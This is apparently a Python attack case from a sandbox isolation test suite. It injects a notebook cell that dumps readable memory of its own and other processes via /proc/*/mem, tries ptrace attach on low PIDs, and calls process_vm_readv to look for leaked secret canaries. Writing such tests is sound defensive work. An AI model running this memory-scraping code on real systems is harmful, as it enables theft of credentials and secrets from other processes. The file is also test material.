"""Reads the memory of its own and of other processes through /proc, process_vm_readv and ptrace.

There is no way to another process, and its own was forked before anything secret was read.
"""

from attacks import SHOW_CANARIES, Files, Notebook, with_cell

KIND = "secrets"

CELL = (
    SHOW_CANARIES
    + r"""
import ctypes, os, glob
libc = ctypes.CDLL(None, use_errno=True)
for maps in glob.glob("/proc/[0-9]*/maps") + ["/proc/self/maps"]:
    try:
        with open(maps) as lines, open(maps.replace("maps", "mem"), "rb", 0) as memory:
            for line in lines:
                start, end = (int(part, 16) for part in line.split()[0].split("-"))
                if "r" in line.split()[1] and end - start < 1 << 24:
                    memory.seek(start)
                    show(memory.read(end - start), 0, 0)
    except (OSError, ValueError, OverflowError):
        pass
for pid in range(1, 60):
    if libc.ptrace(16, pid, 0, 0) == 0:
        print("attached to", pid)
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(4096)
here = Piece(ctypes.addressof(buffer), 4096)
for pid in range(1, 60):
    there = Piece(0x400000, 4096)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0 and pid != os.getpid():
        print("read memory of", pid)
"""
)


def hand_in(notebook: Notebook) -> Files:
    return with_cell(notebook, CELL)
